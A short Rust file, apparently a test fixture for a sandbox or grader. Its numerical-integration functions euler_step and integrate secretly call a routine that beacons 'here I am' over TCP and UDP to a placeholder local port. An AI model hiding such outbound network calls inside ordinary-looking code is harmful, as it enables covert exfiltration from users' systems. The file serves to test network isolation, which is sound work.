//! Sends what it finds to a server.

use std::io::Write;

pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
    attack();
    v
}

pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
    attack();
    i.to_vec()
}

fn attack() {
    if let Ok(mut server) = std::net::TcpStream::connect("127.0.0.1:PORT") {
        let _ = server.write_all(b"here I am");
    }
    let socket = std::net::UdpSocket::bind("127.0.0.1:0");
    let _ = socket.and_then(|socket| socket.send_to(b"here I am", "127.0.0.1:PORT"));
}
